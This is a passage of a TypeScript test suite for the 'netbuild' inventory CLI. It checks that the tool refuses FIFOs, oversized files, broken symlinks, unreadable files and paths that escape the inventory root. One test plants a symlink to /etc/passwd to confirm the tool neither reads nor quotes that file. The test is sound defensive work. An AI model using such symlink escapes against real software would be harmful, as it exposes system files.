      await expectRefused("FIFOs and devices in hosts/", root, { errors });
    });

    it("refuses a host file over the 16 MiB limit before reading it (a sparse 17 MiB file)", async () => {
      const root = await rootWith({});
      execFileSync("truncate", ["-s", "17M", path.join(root, "hosts/huge.yaml")]);
      await expectRefused("a 17 MiB host file", root, { errors: [["hosts/huge.yaml", 'hosts: "huge.yaml" is over the 16 MiB limit for inventory files (17.0 MiB)']], hint: "split the hosts" });
    });

    it("refuses a folder named netbuild.yaml, hosts/ that is a file, and a class file that is a folder", async () => {
      const root = await rootWith({ "netbuild.yaml": null, "hosts/a.yaml": null, "hosts/many.yaml": null });
      mkdirSync(path.join(root, "netbuild.yaml"));
      rmSync(path.join(root, "hosts"), { recursive: true, force: true });
      writeFileSync(path.join(root, "hosts"), "not a folder\n");
      mkdirSync(path.join(root, "classes/other.yaml"));
      await expectRefused("folders and files swapped", root, {
        errors: [
          ["netbuild.yaml", 'site: "netbuild.yaml" is a folder, not a file'],
          ["hosts", 'hosts: "hosts" is not a folder'],
          ["classes/other.yaml", 'classes.other: "other.yaml" is a folder, not a file'],
        ],
      });
    });

    it("refuses host files that are a symlink loop, a symlink to a folder, and a symlink to nothing", async () => {
      const root = await rootWith({});
      symlinkSync("loop.yaml", path.join(root, "hosts/loop.yaml"));
      symlinkSync("../classes", path.join(root, "hosts/folder.yaml"));
      symlinkSync("gone.yaml", path.join(root, "hosts/dangling.yaml"));
      await expectRefused("broken symlinks", root, {
        errors: [
          ["hosts/loop.yaml", 'hosts: "loop.yaml" is a symlink loop'],
          ["hosts/folder.yaml", 'hosts: "folder.yaml" is a folder, not a file'],
          ["hosts/dangling.yaml", 'hosts: "dangling.yaml" is a symlink to a file that does not exist'],
        ],
      });
    });

    it("refuses site, class and host files that resolve outside the root, without quoting them (/etc/passwd)", async () => {
      const root = await rootWith({ "netbuild.yaml": null });
      symlinkSync("/etc/passwd", path.join(root, "hosts/passwd.yaml"));
      symlinkSync(elsewhere(), path.join(root, "hosts/elsewhere.yaml"));
      symlinkSync(elsewhere(), path.join(root, "classes/linked.yaml"));
      symlinkSync(elsewhere(), path.join(root, "netbuild.yaml"));
      const passwd = readFileSync("/etc/passwd", "utf8").split("\n").filter((l) => l.length > 8);
      await expectRefused("links out of the root", root, {
        errors: [
          ["hosts/passwd.yaml", 'hosts: "passwd.yaml" resolves (through a symlink) outside the inventory root'],
          ["hosts/elsewhere.yaml", "resolves (through a symlink) outside the inventory root"],
          ["classes/linked.yaml", 'classes.linked: "linked.yaml" resolves (through a symlink) outside the inventory root'],
          ["netbuild.yaml", 'site: "netbuild.yaml" resolves (through a symlink) outside the inventory root'],
        ],
        absent: [...passwd, "52:54:00:00:00:0f"],
      });
    });

    it("refuses a prebuilt class whose kernel is a FIFO and whose initrd is a symlink to a device, before Nix reads them", async () => {
      const root = await rootWith({ "classes/demo.yaml": "kind: prebuilt\nkernel: { path: ./demo/pipe }\ninitrd: { path: ./demo/to-dev }\n" });
      execFileSync("mkfifo", [path.join(root, "classes/demo/pipe")]);
      const dev = mknod(path.join(root, "classes/demo/zero"), 5);
      symlinkSync(dev ? "zero" : "pipe", path.join(root, "classes/demo/to-dev"));
      await expectRefused("a FIFO and a device as kernel and initrd", root, {
        errors: [
          ["classes/demo.yaml:2:17", 'classes.demo.kernel.path: "./demo/pipe" is not a regular file'],
          ["classes/demo.yaml:3:17", 'classes.demo.initrd.path: "./demo/to-dev" is not a regular file'],
        ],
      });
    });

    it("refuses --root naming a file, a dangling symlink or a symlink loop (a usage error, exit 2)", async () => {
      const dir = tempDir();
      writeFileSync(path.join(dir, "file"), "x\n");
      symlinkSync("gone", path.join(dir, "dangling"));
      symlinkSync("loop", path.join(dir, "loop"));
      for (const [name, text] of [["file", "is not a folder"], ["dangling", "is a symlink to a file that does not exist"], ["loop", "is a symlink loop"]] as const) {
        const rootArg = path.join(dir, name);
        await expectRefused(`--root ${name}`, await rootWith({}), { errors: [[`netbuild: the inventory root ${rootArg} ${text}`, ""]] }, { run: (args, cwd) => cli([...args, "--root", rootArg], cwd), summary: /the inventory root/ });
      }
    });

    // Root makes the files nobody may read, and runs netbuild as nobody through setpriv (util-linux).
    const asNobody = process.getuid?.() !== 0 ? "root (to run netbuild as nobody)" : !hasCommand("setpriv") ? "setpriv" : undefined;
    const nobody: Run = (args, cwd) =>
      new Promise((resolve) => {
        const argv = ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, path.join(REPO, "bin/netbuild.js"), ...args];
        execFile("setpriv", argv, { cwd, env: { ...process.env, NO_COLOR: "1", HOME: "/nonexistent" }, maxBuffer: 16 << 20 }, (error, stdout, stderr) => {
          resolve({ code: error ? (typeof error.code === "number" ? error.code : 1) : 0, stdout, stderr });
        });
      });

    it("plans without the inventory cache when the root's .netbuild/ cannot be read (run as nobody), never an internal error", async (t) => {
      if (asNobody) return cannotRun(t, `unreadable-files check: ${asNobody}`);
      const root = await rootWith({});
      execFileSync("chmod", ["-R", "a+rX", root]);
      mkdirSync(path.join(root, ".netbuild"), { recursive: true });
      chmodSync(path.join(root, ".netbuild"), 0o700);
      const r = await nobody(["plan", "--json"], root);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).not.toContain("internal error");
      expect(JSON.parse(r.stdout)).toMatchObject({ hosts: expect.any(Array) });
    });

    it("refuses a host file and a hosts/ folder the user cannot read (run as nobody)", async (t) => {
      if (asNobody) return cannotRun(t, `unreadable-files check: ${asNobody}`);
      const root = await rootWith({ "hosts/private.yaml": 'class: demo\nmac: "52:54:00:00:00:0c"\n' });
      mkdirSync(path.join(root, "hosts/locked"));
      writeFileSync(path.join(root, "hosts/locked/x.yaml"), 'class: demo\nmac: "52:54:00:00:00:0d"\n');
      // Everything readable by nobody but these two (tempDir makes the root 0700).
      execFileSync("chmod", ["-R", "a+rX", root]);
      chmodSync(path.join(root, "hosts/private.yaml"), 0o600);
      chmodSync(path.join(root, "hosts/locked"), 0o700);
      // As nobody, into the root's own out/ (it has none): build would have to create it.
      await expectRefused("unreadable files", root, {
        errors: [
          ["hosts/private.yaml", 'hosts: "private.yaml" cannot be read: permission denied'],
          ["hosts/locked", 'hosts: "locked" cannot be read: permission denied'],
        ],
      }, { run: nobody, commands: [["build"], ["plan", "--json"]] });
      expect(existsSync(path.join(root, "out"))).toBe(false);
    });
  });
});
